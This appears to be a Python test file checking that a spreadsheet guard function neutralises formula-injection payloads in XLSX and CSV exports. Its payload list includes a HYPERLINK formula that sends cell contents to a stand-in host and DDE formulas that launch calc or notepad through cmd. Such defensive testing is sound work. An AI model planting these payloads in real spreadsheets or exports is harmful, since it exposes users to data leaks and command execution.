"""Spreadsheet text cells: known formula-injection payloads come out as plain text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from openpyxl.utils.exceptions import IllegalCharacterError

from merit_tui.sheet import cell_text, guard

PAYLOADS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=1+1",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "\n=1+1",
    " =1",
    "   \t=1",
    "@SUM(1)",
    "+1",
    "-1+1",
    "-5",
    "=cmd|' /C notepad'!'A1'",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u00a0=1",  # no-break space first
    "\u200b=1",  # zero-width space first
    "\x00=1",
    "\tteks biasa",  # a leading tab alone is a trigger
    "\rteks biasa",
]

SAFE = ["", "Baik", "Rencana aksi: susun SOP", "1-2 bulan", "a=b", "email@contoh.id", "'=1", "100", "  spasi", "Bagian + Umum"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_payloads_get_a_leading_apostrophe(payload):
    assert guard(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE, ids=repr)
def test_ordinary_text_is_untouched(text):
    assert guard(text) == text


def test_guarded_payloads_are_text_in_xlsx_and_csv(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, payload in enumerate(PAYLOADS, start=1):
        ws.cell(row=row, column=1, value=cell_text(payload))
    path = tmp_path / "rencana.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path).active
    for row, payload in enumerate(PAYLOADS, start=1):
        cell = back.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value.startswith("'"), (payload, cell.data_type)
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerows([[guard(p)] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(buf.getvalue()), delimiter=";"))
    assert [r[0] for r in rows] == [guard(p) for p in PAYLOADS]


def test_cell_text_makes_controls_visible_where_openpyxl_would_crash():
    ws = openpyxl.Workbook().active
    with pytest.raises(IllegalCharacterError):
        ws.cell(row=1, column=1, value="catatan\x00lama\x1b[31m")
    ws.cell(row=1, column=1, value=cell_text("catatan\x00lama\x1b[31m"))
    assert ws.cell(row=1, column=1).value == "catatan\u2400lama\u241b[31m"
    assert cell_text("a\u202eb\nc\td") == "a<U+202E>b\nc\td"
    assert cell_text("\r=cmd") == "'\u240d=cmd"
